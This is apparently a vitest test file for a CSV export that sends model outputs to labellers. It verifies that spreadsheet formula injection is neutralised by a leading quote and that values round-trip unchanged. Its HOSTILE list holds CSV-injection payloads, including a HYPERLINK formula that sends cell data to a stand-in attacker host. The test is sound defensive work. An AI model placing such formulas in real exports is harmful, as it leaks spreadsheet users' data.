import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { exportForLabelling, parseCsvTable, readLabelFile, type ToLabelRow } from "../src/index.js";
import { toLabelFixture } from "./to-label-fixture.js";

// The attack: model output exported for labellers as `=HYPERLINK(…)` ran as a formula in their spreadsheet.
// Exports now neutralise every text cell a spreadsheet would read as a formula (OWASP: a single quote in
// front, the field quoted), the reader takes the quote off again, and numeric label cells stay numbers.

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted by someone",
  "''+two quotes",
  "'just an apostrophe",
  "-0.5",
  "plain text, with a comma",
];

describe("CSV exports for spreadsheets", () => {
  it("neutralise formulas in every text cell and read the same texts back; numeric labels stay numbers", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "cje-csv-formula-"));
    const file = path.join(dir, "blind.csv");
    const rows: ToLabelRow[] = toLabelFixture(HOSTILE.length).map((r, i) => ({
      ...r,
      item_id: i === 0 ? "-item-with-dash" : r.item_id,
      prompt: HOSTILE[i],
      response: HOSTILE[HOSTILE.length - 1 - i],
      oracle_label: i % 3 === 0 ? -0.5 : i % 3 === 1 ? 1 : null,
    }));
    await exportForLabelling(rows, file);
    const text = await readFile(file, "utf8");

    // No cell of the file starts a formula: every field beginning with = + - @ tab or CR carries the quote.
    const lines = text.split("\n");
    const rawFields = rawCsvFields(text);
    for (const field of rawFields) if (field !== "-0.5") expect(field, JSON.stringify(field)).not.toMatch(/^[=+\-@\t\r]/);
    expect(rawFields).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(rawFields).toContain("'-2+3");
    expect(rawFields).toContain("'''+two quotes");
    expect(rawFields).toContain("'just an apostrophe"); // not a formula: left alone
    // The label column holds the number -0.5 as it is; the text "-0.5" in a prompt is quoted like any text.
    expect(lines.filter((l) => l.endsWith(",-0.5"))).toHaveLength(4);
    expect(rawFields.filter((f) => f === "'-0.5")).toHaveLength(2);

    // Read back: the texts are the ones exported, the labels numbers.
    const table = parseCsvTable(text, file, ["item_id", "prompt", "response", "oracle_label"]);
    expect(table.rows.map((r) => r.values.prompt)).toEqual(HOSTILE);
    expect(table.rows.map((r) => r.values.response)).toEqual([...HOSTILE].reverse());
    expect(table.rows[0].values.item_id).toBe("-item-with-dash");
    const labels = await readLabelFile(file);
    expect(labels.map((l) => l.label)).toEqual(rows.map((r) => r.oracle_label));
    expect(labels[0]).toMatchObject({ itemId: "-item-with-dash", label: -0.5 });

    // A labeller's tool that quoted the number too ('-0.5) still gives the number.
    const quoted = path.join(dir, "quoted.csv");
    await writeFile(quoted, "item_id,oracle_label\nitem2,'-0.5\nitem3,\"'+1\"\n");
    expect((await readLabelFile(quoted)).map((l) => l.label)).toEqual([-0.5, 1]);
  });
});

/** Every field of CSV text as written (quotes of quoted fields removed, doubled quotes undone, nothing else). */
function rawCsvFields(text: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
    } else while (i < text.length && text[i] !== "," && text[i] !== "\n") field += text[i++];
    fields.push(field);
    i++; // the comma or line break
  }
  return fields;
}
